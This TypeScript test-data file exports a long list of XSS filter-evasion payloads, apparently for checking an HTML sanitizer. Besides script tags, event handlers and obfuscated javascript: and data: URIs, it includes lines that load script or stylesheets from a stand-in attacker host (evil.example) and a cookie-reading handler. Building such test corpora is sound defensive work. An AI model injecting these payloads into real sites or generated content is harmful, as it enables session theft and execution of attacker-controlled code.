/**
 * What is tried against filters of HTML: written after the families of the OWASP filter evasion sheet, of PortSwigger's
 * and of the HTML5 security cheat sheets. Data; one payload a line.
 */
const lines = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>
<script/src=//evil.example/x></script>
<script src="data:text/javascript,alert(1)"></script>
<script type="module">import("https://evil.example/x.js")</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script>alert(1)//
<script<!-- -->alert(1)</script>
<script x>alert(1)</script 1=2
<script ~~~>alert(0)</script ~~~>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<svg><script>alert&lpar;1&rpar;</script>
<math><script>alert(1)</script></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img src="x" onerror="alert(1)">
<img src='x' onerror='alert(1)'>
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099">
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img/src=x/onerror=alert(1)>
<img	src=x	onerror=alert(1)>
<img src=x oneonerrorrror=alert(1)>
<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>
<img src="javascript:alert(1)">
<img src=javascript:alert(1)>
<img src=JaVaScRiPt:alert(1)>
<img src="jav	ascript:alert(1)">
<img src="jav&#x09;ascript:alert(1)">
<img src="jav&#x0A;ascript:alert(1)">
<img src="jav&#x0D;ascript:alert(1)">
<img src=" &#14;  javascript:alert(1)">
<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img src="livescript:[code]">
<img src='vbscript:msgbox("XSS")'>
<img srcset="x" onerror="alert(1)">
<img srcset="javascript:alert(1) 1x">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="//evil.example/track.gif">
<img src="\\evil.example\track.gif">
<img src="/\evil.example/track.gif">
<img src="https:evil.example/x">
<img src=https:\\evil.example/x>
<img longdesc="javascript:alert(1)" src="/images/x.png">
<img src=x usemap="#m" onload=alert(1)>
<img src=x style="background:url(javascript:alert(1))">
<img src=x loading=lazy onfocus=alert(1) tabindex=1 autofocus>
<a href="javascript:alert(1)">x</a>
<a href=javascript:alert(1)>x</a>
<a href="JAVASCRIPT:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="java&#115;cript:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript&#x3a;alert(1)">x</a>
<a href="&#x6a;avascript:alert(1)">x</a>
<a href="javascript://%0aalert(1)">x</a>
<a href="javascript:void(0)" onclick="alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="jar:https://evil.example!/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="ftp://evil.example/">x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="//evil.example/">x</a>
<a href="\\evil.example">x</a>
<a href="/\evil.example">x</a>
<a href="	//evil.example">x</a>
<a href="https:/\evil.example">x</a>
<a href="http:\\evil.example">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href="https://a.example" ping="https://evil.example/">x</a>
<a href="https://a.example" download="x.exe" onauxclick=alert(1)>x</a>
<a href="https://a.example" target="_blank" rel="opener">x</a>
<a href="https://a.example" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>
<a href="https://a.example" id="__proto__" name="body" class="dialog">x</a>
<a href='x'onclick='alert(1)'>x</a>
<a/href="javascript:alert(1)"/>x</a>
<a onmouseover="alert(1)">x</a>
<a onmouseover=alert(document.cookie)>x</a>
<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>
<a href="javascript :alert(1)">x</a>
<a href="x:alert(1)">x</a>
<a href="?javascript:alert(1)">x</a>
<body onload=alert(1)>
<BODY BACKGROUND="javascript:alert(1)">
<body onpageshow=alert(1)>
<body onhashchange=alert(1)><a href=#x>x</a>
<body onscroll=alert(1)><br><br><input autofocus>
<html onmousemove=alert(1)>
<frameset onload=alert(1)>
<frameset><frame src="javascript:alert(1)"></frameset>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe onload=alert(1)></iframe>
<iframe src=//evil.example/x <
<iframe/src="data:text/html,<svg onload=alert(1)>">
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value=javascript:alert(1)></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2Zy8+" type="image/svg+xml">
<applet code="javascript:alert(1)"></applet>
<portal src="javascript:alert(1)"></portal>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg onload=alert(1)//
<svg><g/onload=alert(1)//<p>
<svg><a xlink:href="javascript:alert(1)"><text x=9 y=9>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) /></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><set onbegin=alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<svg><image href=x onerror=alert(1)>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg><style>{font-family:'<iframe/onload=alert(1)>'</style></svg>
<svg><discard onbegin=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><mi//xlink:href="data:x,<script>alert(4)</script>">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<audio src=x onerror=alert(1)>
<audio onloadstart=alert(1) src="/media/x.mp3">
<audio src="javascript:alert(1)" autoplay></audio>
<audio controls ondurationchange=alert(1)><source src="/media/x.mp3"></audio>
<audio src="data:audio/mp3;base64,AAAA" oncanplay=alert(1)></audio>
<audio><source onerror="alert(1)"></audio>
<video src=x onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<video><source onerror="alert(1)"></video>
<track src=x default onload=alert(1)>
<details open ontoggle=alert(1)>x</details>
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<input type="hidden" accesskey="X" onclick="alert(1)">
<select onfocus=alert(1) autofocus></select>
<textarea onfocus=alert(1) autofocus></textarea>
<keygen onfocus=alert(1) autofocus>
<button formaction="javascript:alert(1)">x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>
<isindex action="javascript:alert(1)" type=image>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<meter onmouseover=alert(1)>0</meter>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<table background="javascript:alert(1)"><td>x</td></table>
<td background="javascript:alert(1)">x</td>
<xss onclick="alert(1)">x</xss>
<xss style="xss:expression(alert(1))">x</xss>
<xss id=x tabindex=1 onfocusin=alert(1)></xss>
<x contenteditable onblur=alert(1)>x</x>
<x onpointerenter=alert(1) style=display:block>x</x>
<div style="width:expression(alert(1))">x</div>
<div style="background-image:url(javascript:alert(1))">x</div>
<div style="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061'\0029">x</div>
<div style="behavior:url(#default#time2)" onbegin="alert(1)">x</div>
<div style="-moz-binding:url(https://evil.example/x.xml#xss)">x</div>
<div style="color:red;position:fixed;inset:0;z-index:9999">x</div>
<div onmouseenter=alert(1)>x</div>
<div onwheel=alert(1) onanimationstart=alert(1) ontransitionend=alert(1)>x</div>
<div datasrc="#x" dataformatas="html" datafld="payload"></div>
<div class="dialog panel" id="main" role="alert" data-refreshes="true">x</div>
<span style='xss:expr/*XSS*/ession(alert(1))'>x</span>
<span onclick=alert(1) onkeydown=alert(1)>x</span>
<p style="animation-name:x" onanimationstart="alert(1)">x</p>
<p><style>@keyframes x{}</style><em style="animation-name:x" onanimationend="alert(1)">x</em></p>
<strong onmouseover="alert(1)">x</strong>
<em onclick='alert(1)'>x</em>
<i onpointerdown=alert(1)>x</i>
<br onload=alert(1)>
<br size="&{alert('XSS')}">
<style>@import 'https://evil.example/x.css';</style>
<style>body{background:url("javascript:alert(1)")}</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<style>*{x:expression(alert(1))}</style>
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="Set-Cookie" content="a=<script>alert(1)</script>">
<base href="javascript:alert(1)//">
<base href="https://evil.example/"><img src="images/x.png">
<bgsound src="javascript:alert(1)">
<layer src="https://evil.example/x.html"></layer>
<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1)">]]></c></x></xml>
<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>
<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="<img src=x onerror=alert(1)>">
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--><script>alert(1)</script>-->
<comment><img src="</comment><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<plaintext><img src=x onerror=alert(1)>
<p title="--><img src=x onerror=alert(1)>">x</p>
<a title="</a><img src=x onerror=alert(1)>" href="https://a.example">x</a>
<img alt="<img src=x onerror=alert(1)>" src="/images/x.png">
<img alt="&quot;><script>alert(1)</script>" src="/images/x.png">
<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>
<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
%3Cscript%3Ealert(1)%3C/script%3E
¼script¾alert(1)¼/script¾
'';!--"<XSS>=&{()}
"><img src=x onerror=alert(1)>
'><svg onload=alert(1)>
</p><script>alert(1)</script><p>
<p/onclick=alert(1)>x
<p onclick
=alert(1)>x
<b onclick=alert(1)>x</b>
<h1 onclick=alert(1)>x</h1>
<image src=x onerror=alert(1)>
<slot onslotchange=alert(1)><img slot=x></slot>
<object><param name="src" value="javascript:alert(1)"></object>
<a href="mailto:a@b.cn?body=<script>alert(1)</script>">x</a>
<a href="tel:javascript:alert(1)" onclick=alert(1)>x</a>
<a href="#" onclick="alert(1)" target="javascript:alert(1)">x</a>
<img width="1&quot; onload=&quot;alert(1)" src="/images/x.png">
<img height=1 onload=alert(1) src=/images/x.png>
<audio controls="x&quot; onplay=&quot;alert(1)" src="/media/x.mp3"></audio>
`;

const signs = ["\u0000", "\u000b", "\u000c", "\u200b", "\u2028"];

/** With what an editor does not show: such signs between the letters that a filter looks for. */
const hidden = signs.flatMap((sign) => [
  `<scr${sign}ipt>alert(1)</scr${sign}ipt>`,
  `<img${sign}src=x${sign}onerror=alert(1)>`,
  `<a href="java${sign}script:alert(1)">x</a>`,
  `<a href="${sign}javascript:alert(1)">x</a>`,
]);

/** Deep and long: a filter must neither fall over nor let the last one through. */
const large = [
  `${"<div>".repeat(2_000)}<img src=x onerror=alert(1)>${"</div>".repeat(2_000)}`,
  `<p ${"a=1 ".repeat(2_000)}onclick=alert(1)>x</p>`,
  `<a href="${"&#x09;".repeat(500)}javascript:alert(1)">x</a>`,
];

export const payloads: readonly string[] = [...lines.split("\n").filter(Boolean), ...hidden, ...large];
